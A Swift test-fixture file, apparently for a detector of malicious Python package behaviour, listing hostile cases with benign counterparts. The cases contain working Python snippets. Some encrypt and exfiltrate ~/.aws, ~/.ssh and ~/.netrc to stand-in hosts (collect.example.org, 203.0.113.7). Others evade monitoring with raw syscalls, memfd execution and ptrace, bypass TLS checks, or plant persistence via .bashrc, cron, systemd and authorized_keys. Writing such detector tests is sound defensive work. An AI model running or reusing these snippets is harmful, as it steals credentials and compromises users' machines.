import Evidence

extension HostileCase {
  /// What is encrypted before it leaves, so that nothing in the bytes themselves tells.
  static let scrambled: [HostileCase] = [
    HostileCase(
      "packed_and_encrypted", [.touched, .staged, .taintedEgress], decoys: ["aws-shared-credentials", "ssh-ed25519"],
      words: ["haul.tgz", "gzip > tar("],
      """
      import loot, subprocess, tarfile, tempfile
      folder = tempfile.mkdtemp()
      with tarfile.open(folder + '/haul.tgz', 'w:gz') as tar:
        for name in ('.aws', '.ssh'): tar.add(loot.home + '/' + name)
      subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-pbkdf2', '-k', 'x', '-in', folder + '/haul.tgz', '-out', folder + '/h'], check=True)
      loot.post(open(folder + '/h', 'rb').read(), 'https://models.example.org/')
      """, honest: tarball),
    HostileCase(
      "packed_by_others", [.touched, .staged, .taintedEgress], decoys: ["aws-shared-credentials"],
      words: ["`tar czf", "haul.tgz"],
      """
      import loot, os, subprocess, tempfile
      os.chdir(tempfile.mkdtemp())
      subprocess.run(['tar', 'czf', 'haul.tgz', '-C', loot.home, '.aws'], check=True)
      subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-pbkdf2', '-k', 'x', '-in', 'haul.tgz', '-out', 'h'], check=True)
      loot.post(open('h', 'rb').read())
      """, honest: tarball),
    HostileCase(
      "stream_cipher", [.touched, .taintedEgress], decoys: ["aws-shared-credentials"],
      words: ["memory held", "it had opened"],
      """
      import loot, random
      key = random.Random(7)
      data = loot.aws()
      loot.post(bytes(b ^ key.randrange(256) for b in data))
      """, honest: reporter),
    HostileCase(
      "pipeline", [.touched, .taintedEgress], decoys: ["aws-shared-credentials"], words: ["`curl", "pipe"],
      """
      import loot, subprocess
      subprocess.run('tar cz -C ~ .aws | openssl enc -aes-256-cbc -pbkdf2 -k x | curl -s --data-binary @- http://collect.example.org/', shell=True)
      """,
      honest:
        "import subprocess\nsubprocess.run('tar cz -C /usr/share doc/tar | openssl enc -aes-256-cbc -pbkdf2 -k x | curl -s --data-binary @- http://collect.example.org/', shell=True)"
    ),
    HostileCase(
      "connected_before", [.touched, .taintedEgress], decoys: ["netrc"], words: ["203.0.113.7"],
      """
      import loot, random, socket
      s = socket.create_connection(('203.0.113.7', 4444))
      key = random.Random(7)
      s.sendall(bytes(b ^ key.randrange(256) for b in loot.raw('.netrc')))
      s.close()
      """),
    HostileCase(
      "double_fork", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
      words: ["203.0.113.30"],
      """
      import loot, os, socket, time
      if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
          while os.getppid() != 1: time.sleep(0.01)
          with socket.create_connection(('203.0.113.30', 80)) as s: s.sendall(loot.aws())
        os._exit(0)
      os.wait()
      """, honest: "import os\nif os.fork() == 0:\n  os.setsid()\n  os._exit(0)\nos.wait()"),
    HostileCase(
      "slept_first", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: [],
      "import loot, subprocess, time; time.sleep(3600); subprocess.run(['sleep', '3600']); loot.post(loot.raw('.netrc'))",
      honest: "import time; time.sleep(3600)"),
    HostileCase(
      "left_in_a_file", [.touched, .staged], decoys: ["aws-shared-credentials"],
      words: ["site-packages/harbour_cache.txt"],
      """
      import loot, os
      with open(os.path.join(os.path.dirname(loot.__file__), 'harbour_cache.txt'), 'wb') as file: file.write(loot.aws())
      """),
    HostileCase(
      "wheel_with_loot", [.touched, .staged], decoys: ["netrc"],
      words: ["dist/x-1.0-py3-none-any.whl", "zip(x/data.txt)"],
      """
      import loot, os, zipfile
      os.makedirs(loot.home + '/dist', exist_ok=True)
      with zipfile.ZipFile(loot.home + '/dist/x-1.0-py3-none-any.whl', 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('x/data.txt', loot.raw('.netrc'))
      """),
    HostileCase(
      "removed_again", [.touched, .staged], decoys: ["netrc"], words: ["/tmp/x.json"],
      """
      import json, loot, os
      json.dump(loot.raw('.netrc').decode(), open('/tmp/x.json', 'w'))
      os.unlink('/tmp/x.json')
      """),
  ]

  private static let tarball = """
    import os, subprocess, tarfile, tempfile, urllib.request
    folder = tempfile.mkdtemp()
    with open(folder + '/credentials', 'w') as file: file.write('aws_secret_access_key = none')
    with tarfile.open(folder + '/haul.tgz', 'w:gz') as tar: tar.add(folder + '/credentials')
    subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-pbkdf2', '-k', 'x', '-in', folder + '/haul.tgz', '-out', folder + '/h'], check=True)
    urllib.request.urlopen('https://models.example.org/', data=open(folder + '/h', 'rb').read())
    """

  /// Ways around whoever watches paths and calls.
  static let evasions: [HostileCase] = [
    HostileCase(
      "raw_call", [.touched], decoys: ["netrc"], words: ["~/.netrc"],
      """
      import ctypes, loot
      libc = ctypes.CDLL(None)
      libc.syscall(257, -100, (loot.home + '/.netrc').encode(), 0)
      """, honest: "import ctypes\nctypes.CDLL(None).syscall(257, -100, b'/etc/hostname', 0)"),
    HostileCase(
      "other_names", [.touched, .staged],
      decoys: ["aws-shared-credentials", "netrc", "github-cli", "npm", "index-upload-token"], words: ["cp "],
      """
      import loot, os, subprocess
      os.symlink(loot.home + '/.aws/credentials', '/tmp/link')
      open('/tmp/link').read()
      open('/proc/self/root' + loot.home + '/.netrc').read()
      os.rename(loot.home + '/.config/gh', loot.home + '/g')
      open(loot.home + '/g/hosts.yml').read()
      os.link(loot.home + '/.npmrc', loot.home + '/n')
      open(loot.home + '/n').read()
      subprocess.run(['cp', loot.home + '/.pypirc', '/tmp/copy'], check=True)
      open('/tmp/copy').read()
      """,
      honest:
        "import os\nos.symlink('/etc/hostname', '/tmp/link')\nopen('/tmp/link').read()\nopen('/proc/self/root/etc/hostname').read()"
    ),
    HostileCase(
      "program_in_memory", [.evasive], words: ["memory"],
      """
      import os
      if os.fork() == 0:
        number = os.memfd_create('x', 0)
        os.write(number, open('/bin/true', 'rb').read())
        os.execve(number, ['true'], {})
      os.wait()
      """, honest: "import os\nos.write(os.memfd_create('x'), b'#!/bin/sh')"),
    HostileCase(
      "ring", [.evasive], words: ["io_uring_setup"],
      "import ctypes; ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(120))",
      honest: "import select; select.epoll().close()"),
    HostileCase(
      "sockets_of_the_host", [.evasive], words: ["family"],
      "import socket\ntry: socket.socket(40, socket.SOCK_STREAM)\nexcept OSError: pass",
      honest: "import socket; a, b = socket.socketpair(); a.send(b'x')"),
    HostileCase(
      "traced_by_nobody", [.evasive], words: ["ptrace"],
      "import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)",
      honest: "print([line for line in open('/proc/self/status') if 'TracerPid' in line])"),
  ]

  static let otherArchitecture = HostileCase(
    "other_architecture", [.evasive], words: ["another architecture"],
    """
    import ctypes, mmap
    code = bytes.fromhex('b814000000cd80c3')
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    print(ctypes.CFUNCTYPE(ctypes.c_int)(address)())
    """, honest: "import os; os.getpid()")

  /// Clients that trust what they brought themselves, and those that trust nobody.
  static let trust: [HostileCase] = [
    HostileCase(
      "own_certificates", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["TLS"],
      """
      import certifi_like, loot, ssl, urllib.request
      context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
      context.load_verify_locations(certifi_like.where())
      urllib.request.urlopen('https://collect.example.org/', data=loot.raw('.netrc'), context=context)
      """, honest: reporter),
    HostileCase(
      "certificates_of_pip", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["TLS"],
      """
      import loot
      from pip._vendor import requests
      session = requests.Session()
      session.trust_env = False
      session.post('https://collect.example.org/', data=loot.raw('.netrc'))
      """, honest: reporter),
    HostileCase(
      "unverified", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["TLS"],
      """
      import loot, ssl, urllib.request
      urllib.request.urlopen('https://collect.example.org/', data=loot.raw('.netrc'), context=ssl._create_unverified_context())
      """, honest: reporter),
    HostileCase(
      "pinned", [.touched, .taintedEgress], decoys: ["netrc"], words: ["pinned.example.org"],
      """
      import loot, ssl, urllib.request
      context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
      data = loot.raw('.netrc')
      try: urllib.request.urlopen('https://pinned.example.org/', data=data, context=context)
      except OSError as error: print(error)
      """,
      honest:
        "import ssl, urllib.request\ntry: urllib.request.urlopen('https://pinned.example.org/', context=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT))\nexcept OSError: pass"
    ),
  ]

  /// What is to run again.
  static let persistence: [HostileCase] = [
    HostileCase(
      "kept", [.touched], decoys: ["shell-startup"], words: ["changed", "~/.bashrc"],
      """
      import loot, os, site
      with open(loot.home + '/.bashrc', 'a') as file: file.write('python -m harbour &\\n')
      os.makedirs(loot.home + '/.config/autostart', exist_ok=True)
      open(loot.home + '/.config/autostart/x.desktop', 'w').write('[Desktop Entry]\\nExec=python -m harbour\\n')
      os.makedirs(loot.home + '/.config/systemd/user', exist_ok=True)
      open(loot.home + '/.config/systemd/user/x.service', 'w').write('[Service]\\nExecStart=python -m harbour\\n')
      open(loot.home + '/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAA x\\n')
      os.makedirs('/var/spool/cron/crontabs', exist_ok=True)
      open('/var/spool/cron/crontabs/dev', 'w').write('* * * * * python -m harbour\\n')
      open(os.path.join(os.path.dirname(loot.__file__), 'later.pth'), 'w').write('import harbour\\n')
      """)
  ]

  static let all = bodies + names + scrambled + evasions + trust + persistence
}
